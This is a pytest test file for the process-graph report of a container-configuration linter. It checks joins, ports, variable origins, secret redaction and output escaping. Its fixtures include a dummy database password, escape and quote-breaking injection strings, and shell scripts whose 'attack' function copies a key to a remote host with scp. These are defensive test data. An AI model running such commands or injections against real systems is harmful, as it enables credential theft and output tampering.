"""The graph: what was joined and why, what was not, and no secret in it."""

from __future__ import annotations

import re

import msgspec
import pytest

from cnlint.config import Config
from cnlint.report.graph import dot, json, mermaid, text
from cnlint.report.graph.drawing import Choice, draw
from cnlint.report.graph.records import Graph, ProcessNode
from cnlint.scan import survey
from tests.memory import MemoryTree
from tests.report_scans import HERE
from tests.test_command_line import Runner, cli

__all__ = ["cli"]

COMPOSE = """
    services:
      web:
        build: web
        ports: ["80:8000"]
        environment:
          DATABASE_URL: postgres://shop:Tr0ub4dor-and-3@db:5432/shop
          CACHE: redis://cache.example.com
        depends_on: [db]
      db:
        image: postgres:16
      search:
        image: ghcr.io/acme/search:2
        healthcheck: {test: curl -f http://localhost:9200/}
    """
DOCKERFILE = "FROM python:3.12 AS base\nFROM base AS app\nENV PORT=8000\nEXPOSE 8000\nCOPY . .\nUSER app\nCMD python web.py\n"
SERVICE = "apiVersion: v1\nkind: Service\nmetadata: {name: lost}\nspec: {selector: {app: nothing}, ports: [{port: 80}]}\n"
FILES = {"compose.yaml": COMPOSE, "web/Dockerfile": DOCKERFILE, "web/web.py": "import os\n", "k8s/service.yaml": SERVICE}


def drawn(files: dict[str, str], choice: Choice | None = None) -> Graph:
    return draw(survey(MemoryTree(files), Config()), choice or Choice())


def named(graph: Graph, name: str) -> ProcessNode:
    return next(process for system in graph.systems for process in system.processes if process.name == name)


def test_a_process_has_what_was_joined_with_the_reasons() -> None:
    graph = drawn(FILES)
    web = named(graph, "web")
    assert web.runs == "web/Dockerfile"
    assert [(join.strength, join.reason) for join in web.joins] == [("runs", "Compose builds web/Dockerfile with context web")]
    assert web.command.text == "python web.py"
    assert web.user.text == "app"
    assert web.code.modules == ("web/web.py",)
    assert [(port.number, port.published) for port in web.ports] == [("8000", "0.0.0.0:80")]
    assert [(link.process, link.reason) for link in web.uses] == [
        ("compose.yaml:db", "it waits for it (started)"),
        ("compose.yaml:db", "DATABASE_URL names it as host"),
    ]
    assert named(graph, "db").service == "postgres"


def test_variables_say_where_they_come_from() -> None:
    environment = named(drawn(FILES), "web").environment
    assert [(one.name, one.origin) for one in environment.variables] == [
        ("PORT", "image"),
        ("DATABASE_URL", "literal"),
        ("CACHE", "literal"),
    ]
    assert environment.variables[0].value.place is not None
    assert environment.variables[0].value.place.path == "web/Dockerfile"


def test_what_was_not_joined_is_said() -> None:
    loose = [(one.what, one.reason) for system in drawn(FILES).systems for one in system.not_joined]
    assert ("image ghcr.io/acme/search:2 of search", "nothing in the repository is known to build it") in loose
    assert ("Service lost", "no workload is certain to match its selector app=nothing") in loose


def test_an_image_that_nothing_runs() -> None:
    graph = drawn({"tools/Dockerfile": DOCKERFILE})
    assert [process.kind for system in graph.systems for process in system.processes] == ["image"]
    assert "images that no manifest is known to run" in text.render(graph, HERE)


def test_no_format_shows_a_secret() -> None:
    graph = drawn(FILES)
    for shown in (text.render(graph, HERE, variables=True), json.render(graph), mermaid.render(graph), dot.render(graph)):
        assert "Tr0ub4dor" not in shown
        assert "web" in shown


def test_json_is_what_the_records_say() -> None:
    graph = drawn(FILES)
    assert msgspec.json.decode(json.render(graph), type=Graph) == graph
    assert graph.version == 1


def test_ids_are_unique() -> None:
    compose = "services:\n  a: {build: {context: ., target: one}}\n  b: {build: {context: ., target: two}}\n"
    graph = drawn({"compose.yaml": compose, "Dockerfile": "FROM python AS one\nFROM python AS two\nCMD x\n"})
    ids = [component.id for system in graph.systems for component in system.components]
    assert sorted(ids) == ["Dockerfile", "Dockerfile#one"]
    assert {process.runs for system in graph.systems for process in system.processes} == set(ids)


def test_only_what_is_chosen() -> None:
    graph = drawn(FILES, Choice(processes=("d*",)))
    assert [process.name for system in graph.systems for process in system.processes] == ["db"]
    assert not drawn(FILES, Choice(systems=("elsewhere",))).systems


def test_the_text_of_a_process() -> None:
    shown = text.render(drawn(FILES, Choice(processes=("web",))), HERE)
    assert re.sub(r"(?m) +$", "", shown).splitlines()[5:] == [
        "    runs     web/Dockerfile, stage app",
        "             because Compose builds web/Dockerfile with context web (compose.yaml:3)",
        "    command  python web.py",
        "    loads    web/web.py",
        "    ports    0.0.0.0:80 -> 8000",
        "    uses     db: it waits for it (started) (compose.yaml:8), DATABASE_URL names it as host (compose.yaml:6)",
        "    user     app (web/Dockerfile:6)",
        "    signals  kept from the program by sh",
        "    env      3 variables",
        "",
        "1 system, 1 component, 1 process; 4 files read",
    ]


def test_processes_of_tests_are_counted() -> None:
    graph = drawn({"tests/compose.yaml": COMPOSE, "web/Dockerfile": DOCKERFILE})
    assert graph.hidden == 3


def test_the_command(cli: Runner) -> None:
    cli.write("compose.yaml", "services:\n  web: {image: 'nginx:1'}\n  db: {image: 'postgres:16'}\n")
    done = cli("graph", "--process", "web", "--format", "json", "--output", "graph.json")
    assert (done.code, done.out, done.err) == (0, "", "")
    assert [one.name for one in msgspec.json.decode((cli.folder / "graph.json").read_bytes(), type=Graph).systems[0].processes] == ["web"]
    assert cli("graph", "--target", "compose").code == 0
    assert cli("graph", "--target", "kubernetes").code == 2


@pytest.mark.parametrize("text_", ["", "\x1b[31m", "a" * 9000])
def test_hostile_names_are_shown_harmlessly(text_: str) -> None:
    graph = drawn({"compose.yaml": f"services:\n  web:\n    image: x\n    command: [{msgspec.json.encode(text_).decode()}]\n"})
    assert "\x1b" not in text.render(graph, HERE)


NASTY = 'services:\n  "a\\"]; x -> y [":\n    image: "<b>#]end\\\\N"\n    depends_on: [b]\n  b: {image: redis}\n'


def test_mermaid_escapes_what_it_would_read() -> None:
    shown = mermaid.render(drawn({"compose.yaml": NASTY}))
    names = re.findall(r'"([^"\n]*)"', shown)
    assert all(re.fullmatch(r"(?:[\w ./:,=()@+-]|#\d+;|<br/>)*", name) for name in names)
    assert re.search(r"(?m)^  n\d+ -->\|\"uses\"\| n\d+$", shown)
    assert shown.count("subgraph") == len(re.findall(r"(?m)^ *end$", shown))


def test_dot_escapes_what_it_would_read() -> None:
    shown = dot.render(drawn({"compose.yaml": NASTY}))
    bare = re.sub(r'"(?:[^"\\]|\\.)*"', "T", shown)
    assert '"' not in bare
    assert bare.count("{") == bare.count("}")
    assert all(
        re.fullmatch(r" *(?:digraph cnlint \{|subgraph cluster_\w+ \{|\}|[\w >-]+(?: \[[\w=, ]+\])?;|\w+=\w+;)", line)
        for line in bare.splitlines()
    )


def test_pictures_draw_each_join_once() -> None:
    graph = drawn(FILES)
    assert len(re.findall(r"-->\|\"runs\"\|", mermaid.render(graph))) == 1
    assert dot.render(graph).count('[label="runs"]') == 1


def test_a_word_alone_is_no_host_unless_its_variable_says_so() -> None:
    compose = "services:\n  shop: {image: a}\n  db: {image: b, environment: {DB_USER: shop, PEER_HOST: shop}}\n"
    assert [link.reason for link in named(drawn({"compose.yaml": compose}), "db").uses] == ["PEER_HOST names it as host"]


def test_checks_of_a_process() -> None:
    assert [(one.name, one.kind, one.asks) for one in named(drawn(FILES), "search").health] == [
        ("healthcheck", "command", "curl -f http://localhost:9200/")
    ]


def test_the_chain_is_what_leads_to_the_program_that_stays() -> None:
    script = '#!/bin/sh\nattack() {\n  scp key host:\n}\nif [ "$ATTACK" = 1 ]; then attack; fi\n./prepare.sh\nsleep infinity\n'
    files = {
        "Dockerfile": 'FROM python:3.12\nWORKDIR /app\nCOPY . .\nCMD ["./attack.sh"]\n',
        "attack.sh": script,
        "prepare.sh": "#!/bin/sh\nmkdir /data\n",
    }
    node = next(process for system in drawn(files).systems for process in system.processes)
    assert node.command.text == "./attack.sh"
    assert [step.text for step in node.chain] == ["… sleep infinity"]


def test_the_body_of_a_function_is_not_where_a_script_begins() -> None:
    script = "#!/bin/sh\nattack() {\n  scp key host:\n}\nwhoami\nif [ -f /x ]; then exec gunicorn shop; fi\n"
    files = {"Dockerfile": 'FROM python:3.12\nCOPY . .\nCMD ["/start.sh"]\n', "start.sh": script}
    node = next(process for system in drawn(files).systems for process in system.processes)
    assert [step.text for step in node.chain] == ["whoami …"]
